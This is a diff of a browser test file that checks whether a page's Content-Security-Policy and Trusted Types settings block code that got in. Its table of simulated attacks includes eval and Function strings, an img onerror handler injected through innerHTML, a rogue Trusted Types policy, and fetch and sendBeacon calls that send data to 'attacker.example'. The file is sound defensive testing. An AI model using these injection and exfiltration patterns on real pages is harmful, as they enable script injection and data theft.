@@ -1,75 +1,68 @@
 import { untilLive } from "#site/quiet-page.ts";
-import { foreignRequests, isOwned, path } from "./attacker.ts";
-import { expect, test } from "./policed-page.ts";
+import { expect, isOwned, path, test } from "./attacked-page.ts";
 
 const scripts = /script-src|require-trusted-types-for/;
 
-const fromInside: Record<string, { attack: () => void; directive: RegExp }> = {
-  "a text as code (eval)": {
+/** What code that got in tries, and the directive that refuses it. */
+const fromInside: Record<string, [attack: () => void, directive: RegExp]> = {
+  "a text as code (eval)": [
     // biome-ignore lint/security/noGlobalEval: it is the attack.
-    attack: () => eval("window.owned = true"),
-    directive: scripts,
-  },
-  "a text as code (Function)": {
-    attack: () => new Function("window.owned = true")(),
-    directive: scripts,
-  },
-  "a text as code (a timer)": {
-    attack: () => window.setTimeout("window.owned = true" as never, 0),
-    directive: scripts,
-  },
-  "a script of its own": {
-    attack: () => {
+    () => eval("window.owned = true"),
+    scripts,
+  ],
+  "a text as code (Function)": [() => new Function("window.owned = true")(), scripts],
+  "a text as code (a timer)": [() => setTimeout("window.owned = true" as never, 0), scripts],
+  "a script of its own": [
+    () => {
       const script = document.createElement("script");
       script.append(document.createTextNode("window.owned = true"));
       document.body.append(script);
     },
-    directive: scripts,
-  },
-  "markup with a handler": {
-    attack: () => {
+    scripts,
+  ],
+  "markup with a handler": [
+    () => {
       document.body.innerHTML = '<img src="data:," onerror="window.owned = true">';
     },
-    directive: /require-trusted-types-for/,
-  },
-  "a handler on an element": {
-    attack: () => {
+    /require-trusted-types-for/,
+  ],
+  "a handler on an element": [
+    () => {
       document.body.setAttribute("onclick", "window.owned = true");
       document.body.click();
     },
-    directive: scripts,
-  },
-  "a policy of its own for markup": {
-    attack: () => {
+    scripts,
+  ],
+  "a policy of its own for markup": [
+    () => {
       const { trustedTypes } = window as unknown as {
         trustedTypes: { createPolicy: (name: string, rules: object) => object };
       };
       trustedTypes.createPolicy("attacker", { createHTML: (text: string) => text });
       Object.assign(window, { owned: true });
     },
-    directive: /(^|,)trusted-types/,
-  },
-  "a call to somebody else": {
-    attack: () => {
+    /(^|,)trusted-types/,
+  ],
+  "a call to somebody else": [
+    () => {
       fetch("http://attacker.example/take").then(() => Object.assign(window, { owned: true }));
     },
-    directive: /connect-src/,
-  },
-  "a beacon to somebody else": {
-    attack: () => navigator.sendBeacon("http://attacker.example/take", "words"),
-    directive: /connect-src/,
-  },
+    /connect-src/,
+  ],
+  "a beacon to somebody else": [
+    () => navigator.sendBeacon("http://attacker.example/take", "words"),
+    /connect-src/,
+  ],
 };
 
 test("code that got in can't run more code, nor call somebody else", async ({
   page,
   refusals,
-  messages,
+  requests,
 }) => {
-  const requests = await foreignRequests(page);
   await page.goto(path);
   await untilLive(page, path);
-  for (const [what, { attack, directive }] of Object.entries(fromInside)) {
+  for (const [what, [attack, directive]] of Object.entries(fromInside)) {
     refusals.length = 0;
     // What the test's own connection evaluates is exempt from the policy; a timer's callback isn't.
     // A refusal may be an exception: what counts is what was noted, and what happened.
@@ -82,5 +75,4 @@ test("code that got in can't run more code, nor call somebody else", async ({
     expect(await isOwned(page), what).toBe(false);
     expect(requests, what).toEqual([]);
   }
-  messages.length = 0;
 });
